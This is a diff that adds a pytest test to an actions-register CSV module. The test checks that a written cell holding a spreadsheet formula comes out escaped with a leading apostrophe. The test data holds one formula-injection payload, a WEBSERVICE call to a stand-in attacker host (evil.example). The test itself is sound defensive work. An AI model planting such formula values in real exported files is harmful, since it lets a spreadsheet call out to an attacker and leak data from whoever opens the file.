@@ -262,6 +262,15 @@ def test_write_then_read_round_trips(tmp_path, make_file):
     assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == []
 
 
+def test_written_register_cannot_run_as_a_spreadsheet_formula(tmp_path, make_file):
+    actions = read_actions(make_file("actions.csv", REGISTER))
+    actions.at[0, "title"] = "=WEBSERVICE(\"http://evil.example\")"
+    target = tmp_path / "out.csv"
+    write_actions(actions, target)
+    assert pd.read_csv(target, dtype=str).at[0, "title"] == "'=WEBSERVICE(\"http://evil.example\")"
+    pd.testing.assert_frame_equal(read_actions(target), actions)
+
+
 def test_write_refuses_separator_inside_an_element_and_keeps_the_old_file(tmp_path, make_file):
     actions = read_actions(make_file("actions.csv", REGISTER))
     target = tmp_path / "out.csv"
